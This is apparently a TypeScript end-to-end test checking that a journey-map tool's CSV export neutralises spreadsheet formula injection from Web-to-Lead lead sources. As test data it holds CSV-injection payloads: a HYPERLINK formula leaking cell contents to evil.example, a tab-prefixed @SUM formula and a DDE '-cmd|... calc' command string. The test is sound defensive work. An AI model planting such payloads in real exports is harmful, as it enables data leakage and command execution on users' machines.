/**
 * Security, issue 12 §8: CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV
 * injection). A Web-to-Lead form sets a Lead's source to whatever the visitor typed; that value reaches
 * the journey map's touchpoint table. The service syncs the sandbox org, then the real CLI exports CSV.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSalesforceSandbox, type SalesforceSandbox } from '../../sandbox/salesforce/index.ts';
import { csvField } from '../../src/report/render-csv.ts';
import { startServer, type ParcoursServer } from '../../src/server/index.ts';
import { runCli } from '../e2e/cli.ts';
import { ADMIN_TOKEN, admin, salesforceEnv, tempDb } from '../server/harness.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

/** Splits RFC 4180 text into rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

describe('CSV export of the journey map', () => {
  let sf: SalesforceSandbox;
  let srv: ParcoursServer;
  let db: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    sf = await startSalesforceSandbox({ port: 0, seed: 12, contacts: 20 });
    // As a Web-to-Lead form would create them: the source is free text from the visitor.
    sf.data.create('Lead', { LastName: 'Mallory', Company: 'Evil Corp', Email: 'mallory@evil.example', Status: 'Open - Not Contacted', LeadSource: HOSTILE });
    sf.data.create('Lead', { LastName: 'Tab', Company: 'Evil Corp', Email: 'tab@evil.example', Status: 'Open - Not Contacted', LeadSource: '\t@SUM(1+1)' });
    db = tempDb();
    env = { PARCOURS_DB: db, PARCOURS_ADMIN_TOKEN: ADMIN_TOKEN, PARCOURS_LOG_LEVEL: 'silent', SALESFORCE_ORG_ID: '00D000000000001AAA', ...salesforceEnv(sf) };
    srv = await startServer({ port: 0, schedule: false, env });
    const full = await admin(srv.url, '/api/installations/salesforce:default/sync', { method: 'POST', body: JSON.stringify({ mode: 'full' }) });
    expect(full.status).toBe(200);
  });
  afterAll(async () => {
    await srv?.close();
    await sf?.close();
  });

  it('neutralises a =HYPERLINK(...) lead source and other formula starts; numbers stay numbers', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'parcours-csv-')), 'csv');
    const r = await runCli(['report', '--crm', 'salesforce', '--format', 'csv', '--out', out], env);
    expect(r.code).toBe(0);
    const text = readFileSync(join(out, 'channels.csv'), 'utf8');
    const cells = parseCsv(text).flat();
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells).toContain("'\t@SUM(1+1)");
    for (const file of ['stages.csv', 'channels.csv', 'touchpoints.csv', 'satisfaction.csv', 'moments.csv', 'friction.csv', 'kpis.csv', 'segments.csv']) {
      for (const cell of parseCsv(readFileSync(join(out, file), 'utf8')).flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
    expect(csvField('-cmd|" /C calc"!A0')).toBe(`"'-cmd|"" /C calc""!A0"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField('plain, text')).toBe('"plain, text"');
  });
});
